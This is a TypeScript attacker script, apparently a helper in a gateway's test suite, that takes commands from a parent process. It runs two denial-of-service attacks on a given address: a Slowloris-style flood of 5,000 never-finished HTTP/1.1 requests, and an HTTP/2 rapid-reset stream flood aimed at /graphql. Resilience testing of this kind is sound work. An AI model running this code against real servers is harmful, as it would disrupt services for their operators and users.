// Attacks the gateway whose address is its argument, as its parent says: `slow-heads`, `resets`, `stop`.
import { connect, type Socket } from 'node:net';
import { frame, frameFlags, headerBlock, openFrames } from '../../test/kit/http2-frames.ts';

const [address = ''] = process.argv.slice(2);
const url = new URL(address);

/** Connections that never send a whole head: each says a line more each second, and is replaced when it is cut off. */
const slowHeads = 5000;
const opensAtOnce = 100;
const lineMs = 1000;
/** A connection of HTTP/2 that resets as fast as it may, opened again a second after it was ended. */
const resetsAtOnce = 20;
const pauseMs = 1000;

const attacks: Readonly<Record<string, (stop: AbortSignal) => Promise<void>>> = {
  'slow-heads': beginSlowHeads,
  resets: beginResets,
};

let stopping = new AbortController();

process.on('message', async (question) => {
  const attack = attacks[String(question)];
  if (attack) {
    stopping = new AbortController();
    await attack(stopping.signal);
  } else if (question === 'stop') stopping.abort();
  else return;
  process.send?.({ done: question });
});
console.log(`attacker on ${address}`);

/** Resolves when all are open. */
async function beginSlowHeads(stop: AbortSignal): Promise<void> {
  const sockets = new Set<Socket>();
  const open = (): Promise<unknown> =>
    new Promise((resolve) => {
      const socket = connect({ host: url.hostname, port: Number(url.port) }, () => {
        socket.write('POST /graphql HTTP/1.1\r\nHost: a\r\n');
        resolve(undefined);
      });
      sockets.add(socket);
      socket.on('error', resolve);
      socket.resume();
      socket.once('close', () => {
        sockets.delete(socket);
        if (!stop.aborted) void open();
      });
    });
  for (let opened = 0; opened < slowHeads; opened += opensAtOnce)
    await Promise.all(Array.from({ length: opensAtOnce }, open));
  const timer = setInterval(() => {
    for (const socket of sockets) socket.write('X-A: b\r\n');
  }, lineMs);
  stop.addEventListener('abort', () => {
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
  });
}

async function beginResets(stop: AbortSignal): Promise<void> {
  void resetUntil(stop);
}

async function resetUntil(stop: AbortSignal): Promise<void> {
  const head = headerBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':authority', 'a'],
    [':path', '/graphql'],
    ['content-type', 'application/json'],
  ]);
  const cancel = Buffer.of(0, 0, 0, 8);
  while (!stop.aborted) {
    await using wire = await openFrames(address);
    for (let id = 1, isOpen = true; isOpen && !stop.aborted; ) {
      for (let count = 0; count < resetsAtOnce; count += 1, id += 2) {
        const body = frame('data', frameFlags.endStream, id, Buffer.from('{"query":"{ __typename }"}'));
        const headers = frame('headers', frameFlags.endHeaders, id, head);
        wire.send(headers, body, frame('rstStream', 0, id, cancel));
      }
      isOpen = await wire.settle();
    }
    await new Promise((resolve) => setTimeout(resolve, pauseMs));
  }
}
